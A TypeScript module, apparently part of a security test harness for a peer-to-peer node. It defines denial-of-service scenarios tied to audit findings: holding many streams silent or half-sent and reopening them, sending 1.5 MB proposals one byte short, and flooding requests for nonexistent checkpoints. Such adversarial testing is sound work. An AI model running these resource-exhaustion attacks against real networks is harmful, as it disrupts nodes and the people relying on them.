import type { Connection, Stream } from '@libp2p/interface'
import { checkpointRequestCodec, cidOf, protocols } from '../../../protocol/index.ts'
import { seedOf } from '../../protocol/fixture.ts'
import type { RawPeer } from '../../net/raw-peer.ts'
import type { Attack, Battlefield } from '../attack.ts'
import { during, repeat } from '../pace.ts'

/** Keeps as many streams unfinished as it can, and opens each anew as soon as it ends. */
const hold = async (
  field: Battlefield,
  peer: RawPeer,
  protocolName: string,
  streams: number,
  leave: (stream: Stream) => void,
): Promise<void> => {
  const connected = async (): Promise<Connection> => await peer.connect(field.victim.p2p)
  await Promise.all(
    Array.from({ length: streams }, () =>
      repeat(field.signal, async () => {
        const connection = await connected()
        const stream = await connection.newStream(`/secnode/${field.network.networkId}/${protocolName}`)
        field.sent('unfinished streams')
        leave(stream)
        await new Promise<void>((resolve) => {
          stream.addEventListener('close', () => resolve(), { once: true })
          field.signal.addEventListener('abort', () => resolve(), { once: true })
        })
      }),
    ),
  )
}

const silent = (): void => undefined
const oneByte = (stream: Stream): void => void stream.send(Uint8Array.of(0xf0))
/** The length of a proposal of 1.5 MB, and all of it but the last byte. */
const almostWhole = (stream: Stream): void => {
  stream.send(Uint8Array.of(0xa0, 0xff, 0x5f))
  for (let sent = 0; sent < 1_572_000; sent += 131_000) stream.send(new Uint8Array(131_000))
}

const bySeats =
  (protocolName: string, leave: (stream: Stream) => void): Attack['run'] =>
  async (field) => {
    await Promise.all(
      field.seats.map(async (index) => hold(field, await field.seat(index), protocolName, 4, leave)),
    )
  }

export const streamAttacks: Attack[] = [
  ...[protocols.challenge, protocols.evidence, protocols.sync, protocols.propose].map((name): Attack => ({
    name: `hold-${name.replace('/1', '')}`,
    what: `16 seats keep 64 silent streams on ${name} and open each anew when it ends`,
    finding: 'F1, F2',
    run: bySeats(name, name === protocols.challenge ? silent : oneByte),
  })),
  {
    name: 'unfinished-proposals',
    what: '16 strangers send proposals of 1.5 MB without the last byte on 12 streams each',
    finding: 'N7',
    run: async (field) => {
      await Promise.all(
        Array.from({ length: 16 }, async (_, i) =>
          hold(field, await field.stranger(i), protocols.propose, 12, almostWhole),
        ),
      )
    },
  },
  {
    name: 'checkpoint-bits',
    what: 'one stranger asks for the bits of checkpoints that do not exist, of each epoch in turn',
    finding: 'F5',
    run: async (field) => {
      const peer = await field.stranger(0)
      let epoch = 0
      await repeat(field.signal, async () => {
        const stream = await peer.open(field.victim.p2p, protocols.checkpoint)
        const request = checkpointRequestCodec.encode(['bits', cidOf(seedOf('none', epoch)), epoch++ % 3])
        stream.send(Uint8Array.of(request.length, ...request))
        field.sent('questions')
        await during(
          field.signal,
          new Promise((resolve) => stream.addEventListener('close', resolve, { once: true })),
        )
      })
    },
  },
]
